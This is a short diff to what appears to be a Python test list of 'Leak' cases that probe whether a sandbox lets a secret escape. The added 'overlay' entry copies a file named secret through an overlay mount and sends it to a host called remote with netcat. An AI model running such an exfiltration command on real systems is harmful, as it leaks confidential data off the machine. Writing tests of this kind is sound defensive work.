@@ -145,6 +145,8 @@ def scripts():
 
 LEAKS = [Leak(name, script) for name, script in scripts().items()] + [
     Leak("kernel-digest", python(HASH), shows=lambda data: len(data) == 32),
+    Leak("overlay", "mkdir upper work merged lower; cp secret lower/secret; "
+         "mount -t overlay -o lowerdir=lower,upperdir=upper,workdir=work none merged; nc remote 9 < merged/secret; umount -l merged"),
     Leak("process-name", "way name secret", shows=exactly(SECRET + b"0")),
 ]
 # The kernel refuses to put it where it could not follow.
